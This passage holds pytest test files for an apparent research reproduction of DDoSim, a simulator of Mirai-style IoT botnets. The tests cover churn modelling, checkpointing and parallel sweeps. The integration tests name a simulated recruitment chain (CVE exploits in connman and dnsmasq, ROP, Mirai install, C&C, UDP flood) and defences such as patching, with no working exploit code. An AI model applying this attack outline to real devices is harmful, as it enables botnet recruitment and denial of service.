