"""Parallel sweep sharding: jobs=N must be a pure wall-clock knob.

Grid points share nothing (each builds its own simulator from its own
seeded config), so sharding across worker processes may never change a
row.  These tests pin that contract: serial and parallel execution
produce identical results, in input order, and merged metric snapshots
aggregate exactly.
"""

import dataclasses

import pytest

from repro.core.config import SimulationConfig
from repro.parallel import (
    default_jobs,
    merge_metric_snapshots,
    run_configs,
    run_configs_with_metrics,
    run_map,
)


def _square(value):
    return value * value


class TestRunMap:
    def test_serial_path_preserves_order(self):
        assert run_map(_square, [3, 1, 2], jobs=1) == [9, 1, 4]

    def test_parallel_path_preserves_order(self):
        items = list(range(20))
        assert run_map(_square, items, jobs=4) == [v * v for v in items]

    def test_single_item_short_circuits_pool(self):
        assert run_map(_square, [7], jobs=8) == [49]

    def test_default_jobs_positive(self):
        assert default_jobs() >= 1


def _tiny_config(seed):
    return SimulationConfig(
        n_devs=4,
        seed=seed,
        attack_duration=5.0,
        sim_duration=30.0,
    )


class TestRunConfigs:
    def test_parallel_results_identical_to_serial(self):
        configs = [_tiny_config(seed) for seed in (1, 2, 3)]
        serial = run_configs(configs, jobs=1)
        parallel = run_configs(configs, jobs=3)
        assert [dataclasses.asdict(r) for r in serial] == [
            dataclasses.asdict(r) for r in parallel
        ]

    def test_metrics_variant_matches_and_merges(self):
        configs = [_tiny_config(seed) for seed in (1, 2)]
        serial_results, serial_merged = run_configs_with_metrics(configs, jobs=1)
        parallel_results, parallel_merged = run_configs_with_metrics(configs, jobs=2)
        assert [dataclasses.asdict(r) for r in serial_results] == [
            dataclasses.asdict(r) for r in parallel_results
        ]
        assert serial_merged == parallel_merged
        # Every run schedules events, so the merged counter must cover
        # both runs (strictly more than either one alone).
        counters = serial_merged["counters"]
        assert counters, "runs must export at least one counter"


class TestSweepEquivalence:
    def test_figure2_rows_identical_across_jobs(self):
        from repro.core.experiment import run_figure2

        base = SimulationConfig(
            n_devs=1, attack_duration=5.0, sim_duration=30.0
        )
        serial = run_figure2(
            devs_grid=(2, 4), churn_modes=("none",), seed=3, base_config=base,
            jobs=1,
        )
        parallel = run_figure2(
            devs_grid=(2, 4), churn_modes=("none",), seed=3, base_config=base,
            jobs=2,
        )
        assert serial == parallel


class TestMergeMetricSnapshots:
    def test_counters_sum_per_label(self):
        merged = merge_metric_snapshots([
            {"counters": {"events": {"": 3, "a=1": 2}}},
            {"counters": {"events": {"": 4}}},
        ])
        assert merged["counters"]["events"] == {"": 7, "a=1": 2}

    def test_gauges_keep_high_water_mark(self):
        merged = merge_metric_snapshots([
            {"gauges": {"depth": {"": 9}}},
            {"gauges": {"depth": {"": 4}}},
        ])
        assert merged["gauges"]["depth"] == {"": 9}

    def test_histograms_sum_and_recompute_mean(self):
        merged = merge_metric_snapshots([
            {"histograms": {"lat": {"": {
                "count": 2, "sum": 4.0, "mean": 2.0, "buckets": {"1": 1, "inf": 2},
            }}}},
            {"histograms": {"lat": {"": {
                "count": 2, "sum": 8.0, "mean": 4.0, "buckets": {"inf": 2},
            }}}},
        ])
        hist = merged["histograms"]["lat"][""]
        assert hist["count"] == 4
        assert hist["sum"] == pytest.approx(12.0)
        assert hist["mean"] == pytest.approx(3.0)
        assert hist["buckets"] == {"1": 1, "inf": 4}

    def test_empty_input_yields_empty_families(self):
        assert merge_metric_snapshots([]) == {
            "counters": {}, "gauges": {}, "histograms": {},
        }
