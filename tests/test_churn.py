"""Unit + property tests for the Fan et al. churn model (Eq. 1)."""

import random

import pytest
from hypothesis import given, strategies as st

from repro.core.churn import (
    DEFAULT_PHI,
    ChurnState,
    DynamicChurn,
    StaticChurn,
    leaving_factor,
    leaving_probability,
)
from repro.netsim.simulator import Simulator


class TestEquationOne:
    def test_leaving_factor_formula(self):
        assert leaving_factor(0.5, 0.5) == pytest.approx(0.25)
        assert leaving_factor(1.0, 0.0) == 0.0   # perfect link never leaves
        assert leaving_factor(0.0, 0.0) == 1.0   # worst case

    @pytest.mark.parametrize("bad", [-0.1, 1.1])
    def test_inputs_validated(self, bad):
        with pytest.raises(ValueError):
            leaving_factor(bad, 0.5)
        with pytest.raises(ValueError):
            leaving_factor(0.5, bad)

    def test_regime_coefficients(self):
        # L = 0.25 <= 0.4 -> phi1
        assert leaving_probability(0.5, 0.5) == pytest.approx(0.16 * 0.25)
        # L = 0.5625 in (0.4, 0.7] -> phi2  (q=e=0.25 -> L=0.75*0.75)
        assert leaving_probability(0.25, 0.25) == pytest.approx(0.08 * 0.5625)
        # L = 0.81 > 0.7 -> phi3  (q=e=0.1)
        assert leaving_probability(0.1, 0.1) == pytest.approx(0.04 * 0.81)

    def test_regime_boundaries(self):
        # Exactly L=0.4: still phi1 (paper: "if L(h) <= 0.4").
        # q=0, e=0.6 -> L = 0.4
        assert leaving_probability(0.0, 0.6) == pytest.approx(0.16 * 0.4)
        # q=0, e=0.3 -> L = 0.7 -> phi2
        assert leaving_probability(0.0, 0.3) == pytest.approx(0.08 * 0.7)

    def test_custom_phi(self):
        assert leaving_probability(0.5, 0.5, phi=(1.0, 1.0, 1.0)) == pytest.approx(0.25)

    @given(st.floats(min_value=0.0, max_value=1.0),
           st.floats(min_value=0.0, max_value=1.0))
    def test_probability_bounds_property(self, quality, energy):
        probability = leaving_probability(quality, energy)
        assert 0.0 <= probability <= max(DEFAULT_PHI)

    @given(st.floats(min_value=0.0, max_value=1.0),
           st.floats(min_value=0.0, max_value=1.0))
    def test_better_conditions_never_increase_factor(self, quality, energy):
        improved = min(quality + 0.1, 1.0)
        assert leaving_factor(improved, energy) <= leaving_factor(quality, energy)


class TestStaticChurn:
    def test_departed_devices_marked_offline(self):
        sim = Simulator()
        churn = StaticChurn(200, random.Random(1))
        states = {}

        def toggle(index, online):
            states[index] = online

        departed = churn.apply(sim, toggle)
        assert departed == sum(1 for s in churn.states if not s.online)
        assert all(states[i] is False for i in states)
        assert churn.total_departures() == departed
        assert churn.online_count() == 200 - departed

    def test_departure_rate_is_small(self):
        """With the paper's phi values only a few percent leave."""
        sim = Simulator()
        churn = StaticChurn(2000, random.Random(3))
        departed = churn.apply(sim, lambda i, up: None)
        assert 0 < departed < 2000 * 0.12

    def test_log_records_events(self):
        sim = Simulator()
        churn = StaticChurn(500, random.Random(2))
        departed = churn.apply(sim, lambda i, up: None)
        assert len(churn.log) == departed
        assert all(entry.event == "leave" for entry in churn.log)

    def test_deterministic_per_seed(self):
        sim = Simulator()
        one = StaticChurn(100, random.Random(7))
        two = StaticChurn(100, random.Random(7))
        one.apply(sim, lambda i, up: None)
        two.apply(Simulator(), lambda i, up: None)
        assert [s.online for s in one.states] == [s.online for s in two.states]


class TestDynamicChurn:
    def test_step_toggles_both_ways(self):
        sim = Simulator()
        churn = DynamicChurn(300, random.Random(1), rejoin_probability=1.0)
        # Force some devices offline first.
        for state in churn.states[:50]:
            state.online = False
        churn.step(sim, lambda i, up: None)
        # Every offline device rejoined (p=1), modulo those that left again.
        assert churn.total_rejoins() == 50

    def test_epochs_scheduled_at_interval(self):
        sim = Simulator()
        churn = DynamicChurn(100, random.Random(5), interval=20.0)
        toggles = []
        churn.start(sim, lambda i, up: toggles.append((sim.now, i, up)), until=100.0)
        sim.run(until=100.0)
        if toggles:
            assert all(t % 20.0 == 0 for t, _i, _u in toggles)

    def test_stop_halts_epochs(self):
        sim = Simulator()
        churn = DynamicChurn(500, random.Random(5), interval=10.0)
        churn.start(sim, lambda i, up: None, until=1000.0)
        sim.run(until=35.0)
        events_before = len(churn.log)
        churn.stop()
        sim.run(until=200.0)
        assert len(churn.log) == events_before

    def test_invalid_parameters_rejected(self):
        with pytest.raises(ValueError):
            DynamicChurn(10, random.Random(1), interval=0.0)
        with pytest.raises(ValueError):
            DynamicChurn(10, random.Random(1), rejoin_probability=1.5)

    def test_dynamic_accumulates_more_departures_than_static(self):
        """Re-drawing every epoch gives many more departure opportunities
        — the mechanism behind Figure 2's dynamic < static ordering."""
        sim = Simulator()
        static = StaticChurn(400, random.Random(11))
        static.apply(sim, lambda i, up: None)
        dynamic = DynamicChurn(400, random.Random(11), interval=20.0)
        dynamic.start(sim, lambda i, up: None, until=600.0)
        sim.run(until=600.0)
        assert dynamic.total_departures() > static.total_departures()
