"""End-to-end integration tests for the DDoSim framework.

These run the complete chain — container build, exploit delivery, ROP,
infection-script download, Mirai install, C&C registration, UDP-PLAIN
flood, metric collection — on small fleets.
"""

import pytest

from repro.core import DDoSim, SimulationConfig


def quick_config(**overrides):
    defaults = dict(
        n_devs=4,
        seed=11,
        attack_duration=15.0,
        recruit_timeout=40.0,
        sim_duration=150.0,
    )
    defaults.update(overrides)
    return SimulationConfig(**defaults)


@pytest.fixture(scope="module")
def baseline_run():
    """One shared full run (module-scoped: these are integration checks
    over the same scenario)."""
    ddosim = DDoSim(quick_config())
    result = ddosim.run()
    return ddosim, result


class TestRecruitment:
    def test_all_devs_recruited(self, baseline_run):
        _ddosim, result = baseline_run
        assert result.recruitment.infection_rate == 1.0
        assert result.recruitment.bots_recruited == 4

    def test_both_cves_used(self, baseline_run):
        """The mixed fleet recruits through both vulnerable binaries."""
        _ddosim, result = baseline_run
        assert set(result.recruitment.by_binary) <= {"connman", "dnsmasq"}
        assert sum(result.recruitment.by_binary.values()) == 4

    def test_leaks_precede_exploits(self, baseline_run):
        _ddosim, result = baseline_run
        assert result.recruitment.leaks_harvested >= result.recruitment.bots_recruited
        assert result.recruitment.exploits_delivered >= result.recruitment.bots_recruited

    def test_recruitment_timeline_recorded(self, baseline_run):
        _ddosim, result = baseline_run
        assert result.recruitment.first_bot_time is not None
        assert result.recruitment.last_bot_time >= result.recruitment.first_bot_time

    def test_devices_run_mirai_after_recruitment(self, baseline_run):
        ddosim, _result = baseline_run
        for dev in ddosim.devs.devs:
            names = [process.name for process in dev.container.processes.values()]
            # The daemon is gone (execlp) and an obfuscated bot remains.
            assert dev.kind not in names
            assert any(len(name) == 10 for name in names)

    def test_mirai_binary_deleted_after_install(self, baseline_run):
        ddosim, _result = baseline_run
        for dev in ddosim.devs.devs:
            assert not dev.container.fs.exists("/tmp/.mirai")


class TestAttack:
    def test_attack_magnitude_measured(self, baseline_run):
        _ddosim, result = baseline_run
        assert result.attack.avg_received_kbps > 0
        assert result.attack.received_bytes > 0
        assert result.attack.offered_bytes >= result.attack.received_bytes

    def test_offered_rate_tracks_dev_links(self, baseline_run):
        """4 devs at 100-500 kbps should offer roughly 0.4-2 Mbps."""
        _ddosim, result = baseline_run
        assert 300 < result.attack.offered_kbps < 2200

    def test_rate_series_covers_attack_window(self, baseline_run):
        _ddosim, result = baseline_run
        assert len(result.rate_series_kbps) == int(result.attack.duration)
        assert max(result.rate_series_kbps) > 0

    def test_all_bots_commanded(self, baseline_run):
        _ddosim, result = baseline_run
        assert result.attack.bots_commanded == 4

    def test_tserver_sees_each_bot(self, baseline_run):
        ddosim, _result = baseline_run
        assert ddosim.tserver.sink.distinct_sources() == 4

    def test_resources_reported(self, baseline_run):
        _ddosim, result = baseline_run
        assert result.resources.pre_attack_mem_gb > 0.2
        assert result.resources.attack_mem_gb > result.resources.pre_attack_mem_gb
        assert result.resources.attack_time_s > result.attack.duration


class TestDeterminism:
    def test_same_seed_same_outcome(self):
        one = DDoSim(quick_config(seed=42)).run()
        two = DDoSim(quick_config(seed=42)).run()
        assert one.attack.avg_received_kbps == two.attack.avg_received_kbps
        assert one.attack.offered_packets == two.attack.offered_packets
        assert one.recruitment.bots_recruited == two.recruitment.bots_recruited
        assert one.attack.issued_at == two.attack.issued_at

    def test_different_seed_different_details(self):
        one = DDoSim(quick_config(seed=1)).run()
        two = DDoSim(quick_config(seed=2)).run()
        # Same infection outcome, different randomized fleet details.
        assert one.recruitment.infection_rate == two.recruitment.infection_rate == 1.0
        assert one.attack.offered_packets != two.attack.offered_packets


class TestDefenses:
    def test_patched_fleet_resists(self):
        """With patched binaries there is no recruitment and no attack."""
        from repro.binaries.connman import make_connman_binary
        from repro.binaries.dnsmasq import make_dnsmasq_binary

        ddosim = DDoSim(quick_config(recruit_timeout=25.0))
        ddosim.devs.connman_binary = make_connman_binary(vulnerable=False)
        ddosim.devs.dnsmasq_binary = make_dnsmasq_binary(vulnerable=False)
        # Patch the per-profile builds too: build() derives them from the
        # fleet binaries' seeds but with profile-specific protections.
        result = ddosim.run()
        assert result.recruitment.bots_recruited == 0
        assert result.attack.avg_received_kbps == 0.0

    def test_no_curl_devices_resist(self):
        """The paper's insight: removing curl breaks the install chain
        even though the hijack itself succeeds."""
        result = DDoSim(
            quick_config(devs_without_curl=True, recruit_timeout=25.0)
        ).run()
        assert result.recruitment.bots_recruited == 0

    def test_single_binary_fleets(self):
        for mix in ("connman", "dnsmasq"):
            result = DDoSim(quick_config(binary_mix=mix, n_devs=3)).run()
            assert result.recruitment.infection_rate == 1.0
            assert set(result.recruitment.by_binary) == {mix}


class TestChurnIntegration:
    def test_static_churn_never_rejoins(self):
        result = DDoSim(
            quick_config(n_devs=30, churn="static", seed=5)
        ).run()
        assert result.churn.mode == "static"
        assert result.churn.rejoins == 0
        assert result.recruitment.bots_recruited <= 30
        # Recruits = online devices (the 100% answer holds for reachable devs).
        assert result.recruitment.bots_recruited >= result.recruitment.devs_online_at_start - 1

    def test_dynamic_churn_has_rejoins(self):
        result = DDoSim(
            quick_config(
                n_devs=40, churn="dynamic", seed=5,
                attack_duration=60.0, sim_duration=300.0,
            )
        ).run()
        assert result.churn.departures > 0
        assert result.churn.rejoins > 0

    def test_no_churn_is_upper_bound(self):
        """No churn gets the full fleet, so it bounds both churn modes.
        (The full static > dynamic ordering needs scale to rise above
        per-seed noise; the Figure 2 benchmark checks it at 100+ Devs.)"""
        results = {}
        for mode in ("none", "static", "dynamic"):
            results[mode] = DDoSim(
                quick_config(
                    n_devs=30, churn=mode, seed=9,
                    attack_duration=40.0, sim_duration=250.0,
                )
            ).run()
        none_rate = results["none"].attack.avg_received_kbps
        assert none_rate >= results["static"].attack.avg_received_kbps
        assert none_rate >= results["dynamic"].attack.avg_received_kbps


class TestFrameworkPlumbing:
    def test_build_is_idempotent(self):
        ddosim = DDoSim(quick_config())
        ddosim.build()
        ddosim.build()
        assert len(ddosim.devs.devs) == 4

    def test_row_summary(self, baseline_run):
        _ddosim, result = baseline_run
        row = result.row()
        assert row["n_devs"] == 4
        assert row["infection_rate"] == 1.0
        assert ":" in row["attack_time"]

    def test_image_reuse_across_profiles(self, baseline_run):
        ddosim, _result = baseline_run
        references = {dev.container.image.reference for dev in ddosim.devs.devs}
        # At most one image per (kind, profile) pair; containers share them.
        assert len(references) <= 8


class TestSettleDelay:
    def test_attack_waits_for_settle_window(self):
        """The attack command must not fire before recruitment + settle
        (the paper's long pre-attack phase that lets churn act)."""
        fast = DDoSim(quick_config(seed=21, attack_settle_delay=0.0)).run()
        settled = DDoSim(quick_config(seed=21, attack_settle_delay=25.0)).run()
        assert settled.attack.issued_at >= fast.attack.issued_at + 24.0
        # Outcome is otherwise unchanged on a churn-free fleet.
        assert settled.recruitment.bots_recruited == fast.recruitment.bots_recruited
