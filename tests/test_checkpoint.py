"""Checkpoint/restore (repro.checkpoint): result-neutral barriers,
byte-identical resume, divergence localization, atomic files.

The contract under test is the hard one from DESIGN.md: a run that is
checkpointed — and a run that is killed and *resumed* from a checkpoint
— must serialize to exactly the same result JSON and metrics snapshot
as the uninterrupted run, across the packet path, the fluid-flow
crossover modes, packet trains, fault plans, and churn.
"""

import json
import os

import pytest

from repro.checkpoint import (
    CHECKPOINT_VERSION,
    CheckpointDivergence,
    CheckpointError,
    CheckpointWriter,
    capture_fingerprint,
    diff_fingerprints,
    latest_checkpoint,
    list_checkpoints,
    load_checkpoint,
    resume_run,
    state_digest,
    write_checkpoint,
)
from repro.core.config import SimulationConfig
from repro.core.framework import DDoSim
from repro.faults import FaultPlan, FaultSpec
from repro.obs import Observatory
from repro.serialization import result_to_json


def _config(**overrides):
    base = dict(n_devs=3, seed=5, attack_duration=20.0, sim_duration=160.0)
    base.update(overrides)
    return SimulationConfig(**base)


def _run_bytes(ddosim):
    """(result JSON, canonical metrics JSON) after running ``ddosim``."""
    result = ddosim.run()
    return (
        result_to_json(result),
        json.dumps(ddosim.obs.metrics.snapshot(), sort_keys=True),
    )


#: a plan whose link faults straddle the checkpoint barriers, so the
#: mid-link-down / mid-degrade state must replay exactly
_FAULT_PLAN = FaultPlan(
    faults=(
        FaultSpec(kind="link_down", target="dev*", at=30.0, duration=20.0,
                  pick=1),
        FaultSpec(kind="link_degrade", target="dev*", at=25.0, duration=30.0,
                  loss_rate=0.05),
    )
)

_HARD_CASES = {
    "packet": _config(),
    "flow-auto": _config(flood_flow="auto"),
    "flow-all": _config(flood_flow="all"),
    "train": _config(flood_train=8),
    "faults": _config(faults=_FAULT_PLAN),
    "churn-faults-flow": _config(churn="dynamic", flood_flow="auto",
                                 faults=_FAULT_PLAN),
}


class TestResumeByteIdentity:
    @pytest.mark.parametrize("case", sorted(_HARD_CASES))
    def test_checkpointed_and_resumed_match_straight(self, case, tmp_path):
        config = _HARD_CASES[case]
        straight = _run_bytes(DDoSim(config, observatory=Observatory()))

        checkpointed_sim = DDoSim(config, observatory=Observatory())
        writer = CheckpointWriter(str(tmp_path), 25.0).arm(checkpointed_sim)
        checkpointed = _run_bytes(checkpointed_sim)
        assert checkpointed == straight, \
            "checkpoint barriers changed result bytes"
        assert writer.written, "no checkpoint fired before the run ended"

        resumed = resume_run(str(tmp_path), observatory=Observatory())
        resumed_bytes = (
            result_to_json(resumed.result),
            json.dumps(resumed.ddosim.obs.metrics.snapshot(), sort_keys=True),
        )
        assert resumed_bytes == straight, "resume drifted from straight run"
        assert resumed.writer.verified == writer.written, \
            "replay must verify every stored barrier"

    def test_seed_grid_property(self, tmp_path):
        """snapshot -> restore -> run == straight, across a seed grid."""
        for seed in (2, 3, 4):
            config = SimulationConfig(n_devs=2, seed=seed,
                                      attack_duration=10.0,
                                      sim_duration=120.0)
            straight = _run_bytes(DDoSim(config, observatory=Observatory()))
            directory = str(tmp_path / f"seed{seed}")
            checkpointed_sim = DDoSim(config, observatory=Observatory())
            CheckpointWriter(directory, 15.0).arm(checkpointed_sim)
            assert _run_bytes(checkpointed_sim) == straight
            resumed = resume_run(directory, observatory=Observatory())
            assert result_to_json(resumed.result) == straight[0]

    def test_resume_from_single_file_anchor(self, tmp_path):
        config = _config()
        sim = DDoSim(config, observatory=Observatory())
        writer = CheckpointWriter(str(tmp_path), 25.0).arm(sim)
        expected = _run_bytes(sim)
        first_tick, first_path = list_checkpoints(str(tmp_path))[0]
        resumed = resume_run(first_path, observatory=Observatory())
        assert result_to_json(resumed.result) == expected[0]
        assert resumed.checkpoint["tick"] == first_tick
        assert writer.written[0] == first_tick


class TestDivergenceDetection:
    def test_tampered_fingerprint_is_localized(self, tmp_path):
        sim = DDoSim(_config(), observatory=Observatory())
        CheckpointWriter(str(tmp_path), 25.0).arm(sim)
        sim.run()
        tick, path = list_checkpoints(str(tmp_path))[-1]
        payload = load_checkpoint(path)
        payload["fingerprint"]["sink"] = "0" * 64
        payload["root"] = state_digest(payload["fingerprint"])
        with open(path, "w") as handle:
            json.dump(payload, handle)
        with pytest.raises(CheckpointDivergence) as excinfo:
            resume_run(str(tmp_path), observatory=Observatory())
        assert excinfo.value.tick == tick
        assert "sink" in excinfo.value.subsystems
        assert "scheduler" not in excinfo.value.subsystems

    def test_fingerprint_diff_names_only_changed_subsystems(self):
        left = {"clock": "a", "sink": "b"}
        right = {"clock": "a", "sink": "c", "extra": "d"}
        assert diff_fingerprints(left, right) == ["extra", "sink"]


class TestCheckpointFiles:
    def test_write_is_atomic_and_leaves_no_temp_files(self, tmp_path):
        payload = {"version": CHECKPOINT_VERSION, "tick": 1,
                   "fingerprint": {"clock": "x"},
                   "root": state_digest({"clock": "x"})}
        path = write_checkpoint(str(tmp_path), payload)
        assert os.path.basename(path) == "checkpoint-1.json"
        leftovers = [name for name in os.listdir(tmp_path)
                     if name.endswith(".tmp")]
        assert leftovers == []
        assert load_checkpoint(path)["tick"] == 1

    def test_failed_write_cleans_its_temp_file(self, tmp_path):
        payload = {"version": CHECKPOINT_VERSION, "tick": 2,
                   "fingerprint": {}, "root": state_digest({}),
                   "poison": object()}  # not JSON-serializable
        with pytest.raises(TypeError):
            write_checkpoint(str(tmp_path), payload)
        assert [name for name in os.listdir(tmp_path)
                if name.endswith(".tmp")] == []
        assert not os.path.exists(tmp_path / "checkpoint-2.json")

    def test_version_mismatch_is_rejected(self, tmp_path):
        payload = {"version": CHECKPOINT_VERSION + 1, "tick": 1,
                   "fingerprint": {}, "root": state_digest({})}
        path = tmp_path / "checkpoint-1.json"
        path.write_text(json.dumps(payload))
        with pytest.raises(CheckpointError, match="version"):
            load_checkpoint(str(path))

    def test_corrupted_root_is_rejected(self, tmp_path):
        payload = {"version": CHECKPOINT_VERSION, "tick": 1,
                   "fingerprint": {"clock": "x"}, "root": "not-the-hash"}
        path = tmp_path / "checkpoint-1.json"
        path.write_text(json.dumps(payload))
        with pytest.raises(CheckpointError, match="root hash"):
            load_checkpoint(str(path))

    def test_code_salt_gate_refuses_foreign_checkpoints(self, tmp_path):
        sim = DDoSim(SimulationConfig(n_devs=2, seed=1, attack_duration=10.0,
                                      sim_duration=120.0),
                     observatory=Observatory())
        CheckpointWriter(str(tmp_path), 15.0).arm(sim)
        sim.run()
        _tick, path = list_checkpoints(str(tmp_path))[-1]
        payload = load_checkpoint(path)
        payload["code_salt"] = "f" * 64
        with open(path, "w") as handle:
            json.dump(payload, handle)
        with pytest.raises(CheckpointError, match="different repro code"):
            resume_run(path)

    def test_latest_checkpoint_resolution(self, tmp_path):
        with pytest.raises(CheckpointError, match="no checkpoint"):
            latest_checkpoint(str(tmp_path))
        with pytest.raises(CheckpointError, match="no such checkpoint"):
            latest_checkpoint(str(tmp_path / "missing"))
        for tick in (1, 3, 2):
            fingerprint = {"clock": str(tick)}
            write_checkpoint(str(tmp_path), {
                "version": CHECKPOINT_VERSION, "tick": tick,
                "fingerprint": fingerprint,
                "root": state_digest(fingerprint),
            })
        assert latest_checkpoint(str(tmp_path)).endswith("checkpoint-3.json")

    def test_writer_rejects_nonpositive_interval(self, tmp_path):
        with pytest.raises(ValueError):
            CheckpointWriter(str(tmp_path), 0.0)


class TestFingerprintDeterminism:
    def test_identical_builds_fingerprint_identically(self):
        config = SimulationConfig(n_devs=2, seed=9, attack_duration=10.0,
                                  sim_duration=120.0)
        left = capture_fingerprint(DDoSim(config, observatory=Observatory()))
        right = capture_fingerprint(DDoSim(config, observatory=Observatory()))
        assert left == right

    def test_different_seed_fingerprints_differently(self):
        base = dict(n_devs=2, attack_duration=10.0, sim_duration=120.0)
        left = capture_fingerprint(
            DDoSim(SimulationConfig(seed=1, **base), observatory=Observatory())
        )
        right = capture_fingerprint(
            DDoSim(SimulationConfig(seed=2, **base), observatory=Observatory())
        )
        assert diff_fingerprints(left, right)
