"""Shared fixtures and helpers for the test suite."""

from __future__ import annotations

import pytest

from repro.netsim.node import Node
from repro.netsim.process import SimProcess
from repro.netsim.simulator import Simulator
from repro.netsim.topology import StarInternet


@pytest.fixture
def sim() -> Simulator:
    return Simulator()


@pytest.fixture
def star(sim) -> StarInternet:
    return StarInternet(sim)


@pytest.fixture
def two_hosts(sim, star):
    """Two 1 Mbps hosts on the star; returns (node_a, node_b, star)."""
    node_a = Node(sim, "host-a")
    node_b = Node(sim, "host-b")
    star.attach_host(node_a, 1e6, delay=0.001)
    star.attach_host(node_b, 1e6, delay=0.001)
    return node_a, node_b, star


def drive(sim: Simulator, generator, until: float = 60.0, name: str = "test-proc"):
    """Run a coroutine to completion inside the simulator; returns its
    value, re-raising any error it ended with."""
    process = SimProcess(sim, generator, name=name)
    sim.run(until=until)
    if not process.done:
        raise AssertionError(f"{name} did not finish by t={until}")
    if process.error is not None:
        raise process.error
    return process.value
