"""Unit tests for the star-Internet topology builder."""

import pytest

from repro.netsim.node import Node
from repro.netsim.sink import PacketSink
from repro.netsim.topology import StarInternet


class TestAttachment:
    def test_each_host_gets_unique_addresses(self, sim, star):
        links = [star.attach_host(Node(sim, f"h{i}"), 1e6) for i in range(5)]
        v6 = {link.ipv6 for link in links}
        v4 = {link.ipv4 for link in links}
        assert len(v6) == 5
        assert len(v4) == 5

    def test_double_attach_rejected(self, sim, star):
        node = Node(sim, "h")
        star.attach_host(node, 1e6)
        with pytest.raises(ValueError):
            star.attach_host(node, 1e6)

    def test_router_has_route_per_host(self, sim, star):
        node = Node(sim, "h")
        link = star.attach_host(node, 1e6)
        assert star.router.ip.routes[link.ipv6] is link.router_device
        assert star.router.ip.routes[link.ipv4] is link.router_device

    def test_asymmetric_downlink(self, sim, star):
        node = Node(sim, "h")
        link = star.attach_host(node, 1e6, downlink_rate_bps=5e5)
        assert link.host_device.data_rate_bps == 1e6
        assert link.router_device.data_rate_bps == 5e5

    def test_address_of_lookup(self, sim, star):
        node = Node(sim, "h")
        link = star.attach_host(node, 1e6)
        assert star.address_of(node) == link.ipv6
        assert star.address_of(node, want_ipv6=False) == link.ipv4


class TestLinkStateControl:
    def test_set_host_up_toggles_both_directions(self, sim, star):
        node = Node(sim, "h")
        link = star.attach_host(node, 1e6)
        star.set_host_up(node, False)
        assert not link.host_device.up
        assert not link.router_device.up
        assert not link.up
        star.set_host_up(node, True)
        assert link.up

    def test_offline_host_receives_nothing(self, sim, star):
        sender = Node(sim, "s")
        receiver = Node(sim, "r")
        star.attach_host(sender, 1e6)
        star.attach_host(receiver, 1e6)
        sink = PacketSink(receiver)
        sink.start()
        star.set_host_up(receiver, False)
        sender.udp.send_datagram(
            None, star.address_of(receiver), 7, src_port=1, payload_size=10
        )
        sim.run()
        assert sink.total_packets == 0

    def test_host_participates_again_after_rejoin(self, sim, star):
        sender = Node(sim, "s")
        receiver = Node(sim, "r")
        star.attach_host(sender, 1e6)
        star.attach_host(receiver, 1e6)
        sink = PacketSink(receiver)
        sink.start()
        star.set_host_up(receiver, False)
        sim.schedule(1.0, star.set_host_up, receiver, True)
        sim.schedule(
            2.0,
            sender.udp.send_datagram,
            None, star.address_of(receiver), 7, 1, 10,
        )
        sim.run()
        assert sink.total_packets == 1


class TestCongestionAccounting:
    def test_queue_drops_aggregated(self, sim, star):
        fast = Node(sim, "fast")
        slow = Node(sim, "slow")
        star.attach_host(fast, 1e8, queue_packets=10)
        star.attach_host(slow, 1e4, queue_packets=10)  # 10 kbps bottleneck
        PacketSink(slow).start()
        for _ in range(100):
            fast.udp.send_datagram(
                None, star.address_of(slow), 7, src_port=1, payload_size=1000
            )
        sim.run(until=5.0)
        assert star.total_queue_drops() > 0
