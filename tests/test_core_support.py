"""Unit tests for core support modules: config, metrics, resources, results."""

import pytest

from repro.core.config import SimulationConfig
from repro.core.metrics import (
    average_received_rate_kbps,
    delivery_ratio,
    peak_received_rate_kbps,
)
from repro.core.resources import ResourceModel, ResourceReport
from repro.core.results import format_table
from repro.netsim.node import Node
from repro.netsim.sink import PacketSink


class TestConfigValidation:
    def test_defaults_are_paper_aligned(self):
        config = SimulationConfig(n_devs=10)
        assert config.dev_rate_kbps == (100.0, 500.0)
        assert config.attack_duration == 100.0
        assert config.sim_duration == 600.0
        assert config.churn_phi == (0.16, 0.08, 0.04)
        assert config.churn_interval == 20.0
        assert config.attack_payload_size == 512

    @pytest.mark.parametrize(
        "kwargs",
        [
            {"n_devs": 0},
            {"n_devs": 5, "churn": "sometimes"},
            {"n_devs": 5, "binary_mix": "openwrt"},
            {"n_devs": 5, "dev_rate_kbps": (500.0, 100.0)},
            {"n_devs": 5, "dev_rate_kbps": (0.0, 100.0)},
            {"n_devs": 5, "attack_duration": 0},
            {"n_devs": 5, "churn_phi": (0.1, 0.2)},
            {"n_devs": 5, "churn_phi": (0.1, 0.2, 1.7)},
        ],
    )
    def test_invalid_configs_rejected(self, kwargs):
        with pytest.raises(ValueError):
            SimulationConfig(**kwargs)

    def test_mean_dev_rate(self):
        config = SimulationConfig(n_devs=1, dev_rate_kbps=(100.0, 500.0))
        assert config.mean_dev_rate_bps == 300_000.0


class TestMetrics:
    def _sink_with_bytes(self, sim, schedule):
        node = Node(sim, "t")
        sink = PacketSink(node)
        # Inject bins directly (unit test of the arithmetic).
        for second, count in schedule.items():
            sink.bytes_per_bin[second] = count
        return sink

    def test_equation_two(self, sim):
        # 125 000 B over 10 s = 100 kbps average.
        sink = self._sink_with_bytes(sim, {i: 12_500 for i in range(10)})
        assert average_received_rate_kbps(sink, 0.0, 10.0) == pytest.approx(100.0)

    def test_window_excludes_outside_bins(self, sim):
        sink = self._sink_with_bytes(sim, {0: 1000, 5: 1000, 20: 99_999})
        assert average_received_rate_kbps(sink, 0.0, 10.0) == pytest.approx(
            2000 * 8 / 1000 / 10
        )

    def test_empty_window_is_zero(self, sim):
        sink = self._sink_with_bytes(sim, {})
        assert average_received_rate_kbps(sink, 5.0, 5.0) == 0.0
        assert average_received_rate_kbps(sink, 5.0, 1.0) == 0.0

    def test_peak_rate(self, sim):
        sink = self._sink_with_bytes(sim, {0: 1000, 1: 5000, 2: 2000})
        assert peak_received_rate_kbps(sink, 0.0, 3.0) == pytest.approx(40.0)

    def test_delivery_ratio(self):
        assert delivery_ratio(50, 100) == 0.5
        assert delivery_ratio(0, 0) == 0.0
        assert delivery_ratio(200, 100) == 1.0  # clamped


class TestResourceModel:
    def test_pre_attack_memory_grows_with_devs(self):
        model = ResourceModel()
        per_dev_container = 6 * 1024 * 1024
        values = [
            model.pre_attack_memory_gb(n, n * per_dev_container)
            for n in (20, 70, 130)
        ]
        assert values == sorted(values)
        assert values[0] > 0.2  # host base included

    def test_attack_memory_exceeds_pre_attack(self):
        model = ResourceModel()
        pre = model.pre_attack_memory_gb(100, 100 * 6_000_000)
